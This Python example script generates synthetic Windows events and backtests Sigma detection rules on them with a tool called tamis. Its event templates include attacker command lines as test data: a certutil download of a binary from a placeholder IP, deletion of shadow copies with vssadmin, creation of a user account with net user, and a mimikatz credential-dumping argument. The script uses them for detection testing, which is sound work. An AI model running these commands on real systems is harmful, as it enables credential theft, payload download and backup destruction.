"""Sigma rules on generated Windows events: import them, and see what they would have done.

    python examples/sigma/run.py [--events 20000] [--spark]

Writes events.jsonl and rules.jsonl into a folder of its own and calls ``tamis import sigma`` and ``tamis backtest`` on
them; with --spark the same rules run through ``tamis.spark.backtest``, and both must count the same firings.
"""

from __future__ import annotations

import argparse
import datetime
import json
import random
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

HERE = Path(__file__).resolve().parent
TOOLS = ("svchost", "explorer", "chrome", "net", "net1", "powershell", "certutil", "curl", "vssadmin", "notepad")
LINES = (
    "{image} -k netsvcs -p",
    '"{image}" user backup{n} /add',
    '"{image}" user backup{n} /add >nul',
    '"{image}" /enc SQBFAFgA{n}',
    '"{image}" -NoProfile -File C:\\jobs\\job{n}.ps1',
    '"{image}" -urlcache -f http://203.0.113.{n}/a.bin a.bin',
    '"{image}" https://updates.example.com/{n}.msi',
    '"{image}" Delete Shadows /All /Quiet',
    '"{image}" C:\\Users\\user{n}\\notes.txt',
)
USERS = ("NT AUTHORITY\\SYSTEM", "CORP\\anna", "CORP\\ben", "CORP\\chris")


def events(n: int, seed: int = 1) -> Iterator[dict[str, object]]:
    """Yield events as an agent on Windows would report them: processes that start, and logins."""
    rng = random.Random(seed)
    start = datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC)
    for i in range(n):
        at = (start + datetime.timedelta(minutes=i)).isoformat()
        about: dict[str, object] = {"id": i, "at": at, "Computer": f"PC-{rng.randrange(200):03}"}
        if rng.random() < 0.2:
            address = rng.choice((f"10.0.0.{rng.randrange(250)}", f"198.51.100.{rng.randrange(250)}", "::1"))
            yield about | {"EventID": 4624, "LogonType": rng.choice((2, 3, 10)), "IpAddress": address}
            continue
        image = f"C:\\Windows\\System32\\{rng.choice(TOOLS)}.exe"
        parent = rng.choice(("C:\\Windows\\explorer.exe", "C:\\Program Files\\Deployment\\agent.exe"))
        line = rng.choice(LINES).format(image=image, n=rng.randrange(100))
        if rng.random() < 0.001:
            line += " sekurlsa::logonpasswords"
        process: dict[str, object] = {"EventID": 4688, "Image": image, "CommandLine": line, "ParentImage": parent}
        yield about | process | {"User": rng.choice(USERS), "IntegrityLevel": rng.choice(("Medium", "High", "System"))}


def tamis(*arguments: str) -> str:
    """Call the program tamis; return what it prints."""
    return subprocess.run(
        [sys.executable, "-m", "tamis", *arguments], check=True, stdout=subprocess.PIPE, text=True
    ).stdout


def main() -> None:
    """Run the example."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=20_000)
    parser.add_argument("--spark", action="store_true")
    arguments = parser.parse_args()
    folder = Path(tempfile.mkdtemp(prefix="tamis-sigma-"))
    rules, file = folder / "rules.jsonl", folder / "events.jsonl"
    with file.open("w") as out:
        out.writelines(f"{json.dumps(event)}\n" for event in events(arguments.events))
    tamis("import", "sigma", str(HERE / "rules"), "--out", str(rules))
    print(tamis("backtest", str(rules), str(file), "--time", "at"))
    if arguments.spark:
        report = json.loads(tamis("backtest", str(rules), str(file), "--json"))
        counted = {rule["id"]: rule["fired"] for rule in report["rules"]}
        assert on_spark(rules, file) == counted
        print("Spark counts the same firings")


def on_spark(rules: Path, file: Path) -> dict[str, int]:
    """Return the firings of each rule, counted by Spark."""
    from tamis.spark import backtest, session

    spark = session()
    fired = backtest(spark.read.json(str(file)), spark.read.json(str(rules)).select("id", "filter"), event_id="id")
    return {row["subscription_id"]: row["fired"] for row in fired.collect()}


if __name__ == "__main__":
    main()
